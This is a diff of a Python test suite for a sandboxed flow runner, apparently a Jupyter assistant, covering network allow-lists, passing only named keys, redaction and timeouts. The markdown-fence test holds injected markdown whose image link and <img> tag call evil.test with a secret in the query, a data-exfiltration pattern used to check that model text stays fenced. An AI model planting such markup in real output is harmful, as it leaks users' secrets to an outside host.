@@ -173,20 +173,20 @@ def test_a_model_flow_reaches_its_allowed_provider_with_the_key_and_nothing_else
 
     run = lfassist_jupyter.run_flow(model_flow, "hello", env=keys, allow_hosts=[llm.url])
 
-    assert run["ok"] is True, run
+    assert run.ok is True, run
     assert llm.requests[-1].headers["authorization"] == f"Bearer {keys['OPENAI_API_KEY']}"  # the key got there
     assert llm.requests[-1].last_user == "hello"
-    assert run["text"].startswith("THE MODEL SAYS HI vars=DEMO_SERVICE_KEY,OPENAI_API_KEY net=blocked(HTTPError)")
+    assert run.text.startswith("THE MODEL SAYS HI vars=DEMO_SERVICE_KEY,OPENAI_API_KEY net=blocked(HTTPError)")
     # The local server standing in for the kernel's ports: refused, and the result says so.
-    assert [(r["host"], r["port"]) for r in run["refused"]] == [("127.0.0.1", _port(server))]
-    assert "allow-list" in run["refused"][0]["reason"]
-    assert run["hosts"] == [f"127.0.0.1:{_port(llm.url)}"] and run["variables"] == sorted(keys)
+    assert [(r.host, r.port) for r in run.refused] == [("127.0.0.1", _port(server))]
+    assert "allow-list" in run.refused[0].reason
+    assert run.hosts == [f"127.0.0.1:{_port(llm.url)}"] and run.variables == sorted(keys)
     for secret in keys.values():  # nor echoed, nor hex-encoded, reversed or split
         assert secret not in str(run) and secret[::-1] not in str(run) and secret.encode().hex() not in str(run)
         assert " ".join(secret) not in str(run)
     if _fenced():
-        assert "direct=closed" in run["text"]  # no way around the proxy: the sandbox has loopback only
-        assert run["isolation"] == "bubblewrap (network through the allow-list only)"
+        assert "direct=closed" in run.text  # no way around the proxy: the sandbox has loopback only
+        assert run.isolation == "bubblewrap (network through the allow-list only)"
 
 
 def test_what_a_run_wants_is_shown_first_and_nothing_runs_without_it(model_flow, llm, monkeypatch):
@@ -233,10 +233,10 @@ def test_a_hidden_non_key_field_naming_a_variable_gets_nothing(sandbox, server, 
     # Even "allowed", a variable only a non-key field names is not passed, nor read into the field.
     monkeypatch.setenv("DEMO_SERVICE_KEY", "demo-secret-value-42")
     run = lfassist_jupyter.run_flow(flow, "hi", env=["GITHUB_TOKEN", "DEMO_SERVICE_KEY"], allow_hosts=[server])
-    assert run["ok"] is True, run
-    assert run["variables"] == ["DEMO_SERVICE_KEY"]
-    assert run["text"].startswith("HI vars=DEMO_SERVICE_KEY net=pong") and "canary=False" in run["text"]
-    assert "ghp_kernelsecret" not in json.dumps(run)
+    assert run.ok is True, run
+    assert run.variables == ["DEMO_SERVICE_KEY"]
+    assert run.text.startswith("HI vars=DEMO_SERVICE_KEY net=pong") and "canary=False" in run.text
+    assert "ghp_kernelsecret" not in run.model_dump_json()
 
 
 def test_keys_come_only_from_env_and_a_missing_one_is_named(probe_flow, server, monkeypatch):
@@ -246,17 +246,17 @@ def test_keys_come_only_from_env_and_a_missing_one_is_named(probe_flow, server, 
         lfassist_jupyter.run_flow(probe_flow, "hi")  # the environment alone allows nothing
 
     run = lfassist_jupyter.run_flow(probe_flow, "hello", env=["DEMO_SERVICE_KEY"], allow_hosts=[server])
-    assert run["ok"] is True, run
-    assert run["text"].startswith("HELLO vars=DEMO_SERVICE_KEY net=pong")  # the one key; the named host works
-    assert run["refused"] == [] and run["variables"] == ["DEMO_SERVICE_KEY"]
+    assert run.ok is True, run
+    assert run.text.startswith("HELLO vars=DEMO_SERVICE_KEY net=pong")  # the one key; the named host works
+    assert run.refused == [] and run.variables == ["DEMO_SERVICE_KEY"]
     for secret in ("demo-secret-value-42", "kernel-secret-value-77"):
         assert secret not in str(run) and secret.encode().hex() not in str(run) and secret[::-1] not in str(run)
     if _fenced():
-        assert "canary=False" in run["text"]  # the user's HOME is not there
+        assert "canary=False" in run.text  # the user's HOME is not there
 
     given = lfassist_jupyter.run_flow(probe_flow, "hi", env={"DEMO_SERVICE_KEY": "given-explicitly-123"})
-    assert given["ok"] and given["text"].startswith("HI vars=DEMO_SERVICE_KEY net=blocked")
-    assert [(r["host"], r["port"]) for r in given["refused"]] == [("127.0.0.1", _port(server))]
+    assert given.ok and given.text.startswith("HI vars=DEMO_SERVICE_KEY net=blocked")
+    assert [(r.host, r.port) for r in given.refused] == [("127.0.0.1", _port(server))]
 
 
 def test_a_flow_that_needs_a_model_choice_is_refused_before_anything_runs():
@@ -273,7 +273,7 @@ def test_a_flow_that_needs_a_model_choice_is_refused_before_anything_runs():
 def test_a_crashing_or_hanging_component_is_a_report(probe_flow):
     env = {"DEMO_SERVICE_KEY": "demo-secret-value-42"}
     crashed = lfassist_jupyter.run_flow(probe_flow, "crash", env=env)
-    assert crashed["ok"] is False and "the service said no" in crashed["error"]
+    assert crashed.ok is False and "the service said no" in crashed.error
 
     started = time.monotonic()
     seen_in_ps = []
@@ -289,13 +289,13 @@ def test_a_crashing_or_hanging_component_is_a_report(probe_flow):
     hung = lfassist_jupyter.run_flow(probe_flow, "hang", env=env, timeout=10)
     scanner.join()
     assert seen_in_ps and not any(seen_in_ps)
-    assert hung["ok"] is False and "did not finish within 10 s" in hung["error"]
+    assert hung.ok is False and "did not finish within 10 s" in hung.error
     assert time.monotonic() - started < 25
 
 
 def test_assist_flow_run_local_shows_the_real_answer(flow_ip, capsys):
     view = flow_ip.run_cell_magic("assist_flow", '--run-local "what is up?"', named(QA_SPEC, "Echo QA"))
-    assert view.run["ok"] and view.run["text"] == "Answer this: what is up?"
+    assert view.run.ok and view.run.text == "Answer this: what is up?"
     text = str(view)
     assert "Real run on 'what is up?': 'Answer this: what is up?'" in text
     assert "variables given: none" in text
@@ -323,9 +323,9 @@ def test_assist_flow_run_local_asks_for_env_and_reaches_only_allowed_hosts(
     llm.queue(Reply("fenced hello"))
     line = f"--run-local hi --env OPENAI_API_KEY,DEMO_SERVICE_KEY --allow-host {llm.url}"
     view = flow_ip.run_cell_magic("assist_flow", line, str(path))
-    assert view.run["ok"], view.run
+    assert view.run.ok, view.run
     assert llm.requests[-1].headers["authorization"] == "Bearer sk-test-magic-0123456789abc"
-    assert view.run["text"].startswith("FENCED HELLO vars=DEMO_SERVICE_KEY,OPENAI_API_KEY net=blocked")
+    assert view.run.text.startswith("FENCED HELLO vars=DEMO_SERVICE_KEY,OPENAI_API_KEY net=blocked")
     assert f"Refused by the network fence: 127.0.0.1:{_port(server)} (not on this run's allow-list)" in str(view)
     assert "sk-test-magic" not in str(view) + view._repr_html_() + capsys.readouterr().out
 
@@ -335,11 +335,12 @@ def test_a_flow_result_keeps_model_text_inside_its_markdown_fence():
     from markdown_it import MarkdownIt
 
     from lfassist_jupyter.core.result import AssistResult, FlowOutcome
+    from lfassist_jupyter.sandbox.answers import RealRun
 
     spec = QA_SPEC + "# ```\n# ![x](http://evil.test/?k=secret) <img src=http://evil.test/y>\n# ````` ~~~\n"
     flow = build_flow(QA_SPEC).flow
     outcome = FlowOutcome(result="done", intent="build_flow", flow=flow, spec=spec, validated=True, attempts=1)
-    outcome.run = {"ok": True, "text": "```\n![y](http://evil.test/z)\n```", "real": True}
+    outcome.run = RealRun(ok=True, text="```\n![y](http://evil.test/z)\n```")
     result = AssistResult(status="complete", kind="flow", intent="build_flow", validated=True, attempts=1)
     result.outcome = outcome
 
@@ -350,7 +351,7 @@ def test_a_flow_result_keeps_model_text_inside_its_markdown_fence():
 
 
 def test_a_passed_key_is_redacted_reversed_split_or_encoded():
-    from lfassist_jupyter.sandbox.client import redact_text
+    from lfassist_jupyter.redaction import redact_text
 
     key = "sk-test-redact-0123456789abcdef"
     forms = [key, key[::-1], " ".join(key), "\n".join(key[::-1]), key[:14] + " ... " + key[14:], key.encode().hex()]
